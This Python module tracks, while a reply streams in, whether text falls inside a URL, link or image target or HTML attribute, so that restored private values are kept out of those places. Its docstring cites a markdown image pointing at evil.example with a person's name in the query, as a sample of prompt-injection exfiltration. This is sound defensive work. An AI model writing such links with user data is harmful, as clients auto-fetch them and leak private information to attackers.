"""Places in a reply where no value may be put: URLs, targets of links and images, attributes.

A reply is shown by programs that fetch images and preview links without asking. A model that was
talked into writing `![](https://evil.example/?q=[PERSON_1])` must not send the name there.

The state is that of the text as it is shown, restored values included, and does not depend on
how the text was cut into pieces. In doubt a place counts as one of these: a token too few is
restored, never one too many.
"""

from __future__ import annotations

import re

# What makes the rest of a run without white space a URL: a scheme, or a host with something behind
# it. The host of an e-mail address is none; hosts have at most 253 characters (RFC 1035).
_URL = re.compile(
    r"//|(?:https?|ftps?|wss?|file|mailto|javascript|blob|cid):|data:\w{1,12}/|www\."
    r"|(?<![a-z0-9@._%+-])[a-z0-9][a-z0-9.-]{0,253}\.[a-z]{2,24}(?::\d{1,5})?[/?#]",
    re.IGNORECASE,
)
_LONGEST_MARK = 300

# What opens a stretch that may hold white space, and goes on until it is closed.
_ATTRIBUTES = (
    "src|srcset|href|action|formaction|poster|background|cite|ping|data|longdesc|manifest|content"
)
_OPENS = re.compile(
    rf"\]\(|\burl\(|<(?=https?:|//|www\.)|\b(?:{_ATTRIBUTES})\s{{0,3}}=\s{{0,3}}[\"']",
    re.IGNORECASE,
)
_PARENTHESES = re.compile(r"[()\n]")
_LONGEST_OPENING = 32
_MOST_LINES = 2


class Place:
    """Whether the place behind the text so far is one where no value may be put."""

    def __init__(self) -> None:
        self._url = False
        self._run = ""
        self._before = ""
        self._closing = ""
        self._depth = 0
        self._lines = 0

    @property
    def forbidden(self) -> bool:
        """Whether a value put here would become part of a URL, a target or an attribute."""
        return self._url or bool(self._closing)

    def advance(self, text: str) -> None:
        """Take the next piece of the text as it is shown."""
        if not text:
            return
        last = max(text.rfind(" "), text.rfind("\n"), text.rfind("\t"))
        if last >= 0:
            self._url = False
            self._run = ""
        if not self._url:
            run = self._run + text[last + 1 :]
            self._url = _may_be_url(run) and _URL.search(run) is not None
            self._run = run[-_LONGEST_MARK:]
        self._stretches(text)

    def _stretches(self, text: str) -> None:
        joined = self._before + text
        if not self._closing and not _may_open(joined):
            self._before = joined[-_LONGEST_OPENING:]
            return
        at = 0
        while True:
            if self._closing:
                at = self._closed(joined, at)
                if at < 0:
                    self._before = ""
                    return
            opening = _OPENS.search(joined, at)
            if opening is None:
                self._before = joined[max(at, len(joined) - _LONGEST_OPENING) :]
                return
            mark = opening[0][-1]
            self._closing = {"(": ")", "<": ">"}.get(mark, mark)
            self._depth = self._lines = 0
            at = opening.end()

    def _closed(self, text: str, at: int) -> int:
        """Where the open stretch ends; -1 where it goes on."""
        if self._closing != ")":
            # An address in angles has one line; an attribute may have many.
            ends = [text.find(c, at) for c in (self._closing, *("\n" * (self._closing == ">")))]
            found = [end for end in ends if end >= 0]
            if not found:
                return -1
            self._closing = ""
            return min(found) + 1
        for mark in _PARENTHESES.finditer(text, at):
            if mark[0] == "\n":
                self._lines += 1
                over = self._lines >= _MOST_LINES
            else:
                self._depth += 1 if mark[0] == "(" else -1
                over = self._depth < 0
            if over:
                self._closing = ""
                return mark.end()
        return -1

    def __repr__(self) -> str:
        return f"Place(forbidden={self.forbidden})"


# Quicker than the patterns, and true wherever they match.


def _may_be_url(run: str) -> bool:
    return (
        ":" in run
        or "/" in run
        or ("." in run and ("?" in run or "#" in run or "www." in run.lower()))
    )


def _may_open(text: str) -> bool:
    return "](" in text or "<" in text or "=" in text or ("(" in text and "url(" in text.lower())
